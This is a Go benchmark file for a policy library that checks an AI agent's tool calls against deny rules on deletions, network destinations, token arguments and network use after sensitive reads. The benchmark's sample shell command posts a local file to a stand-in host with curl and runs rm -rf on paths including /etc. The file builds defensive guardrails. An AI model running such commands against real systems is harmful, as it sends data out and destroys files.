package gates_test

import (
	"fmt"
	"testing"

	"github.com/gbt-policy/gbt/gates"
	"github.com/gbt-policy/gbt/internal/gates/lang"
)

// gateTexts are the kinds of gates that people and the learner write; %d makes
// many different ones of them.
var gateTexts = []string{
	`!ctx.effects.exists(e, e.type == "delete" && e.resource.under("/srv/data%d"))`,
	`ctx.effects.all(e, e.type != "network" || !e.domain.domainUnder("host%d.example.net"))`,
	`!ctx.args.exists(a, a.role == "recipient" && a.value == "box%d@example.net")`,
	`!(ctx.flow.sensitive_read && ctx.effects.exists(e, e.type == "network" && e.port == %d))`,
	`ctx.tool != "admin_action_%d"`,
	`!ctx.effects.exists(e, e.op == "create" && ctx.roots.exists(r, e.resource.under(r)) && e.argv.contains("--token%d="))`,
	`size(ctx.effects) <= 20%d`,
}

func gateLibrary(b *testing.B, n int) *gates.Library {
	var gs []gates.Gate
	for i := range n {
		canonical, prog, err := lang.Compile(fmt.Sprintf(gateTexts[i%len(gateTexts)], i))
		if err != nil {
			b.Fatal(err)
		}
		gs = append(gs, gates.Gate{ID: fmt.Sprint(i), Scope: "global", Disposition: "rejected", Expr: canonical, Program: prog})
	}
	l, err := gates.NewLibrary(gs)
	if err != nil {
		b.Fatal(err)
	}
	return l
}

// BenchmarkEval asks ten and a thousand gates about a call of several effects.
func BenchmarkEval(b *testing.B) {
	c := gates.ShellContext("cd /w && curl -sf https://h.example:8443/a -d @x | tee out; rm -rf /w/build /etc/x; cp a b; python3 t.py > log",
		gates.State{Cwd: "/w", Roots: []string{"/w", "/v"}, Flow: gates.Flow{SensitiveRead: true, Derived: []string{"/w/b"}}})
	for _, n := range []int{10, 1000} {
		l := gateLibrary(b, n)
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			var dst []int
			b.ReportAllocs()
			for b.Loop() {
				dst = l.EvalAll(&c, dst[:0])
			}
		})
	}
}
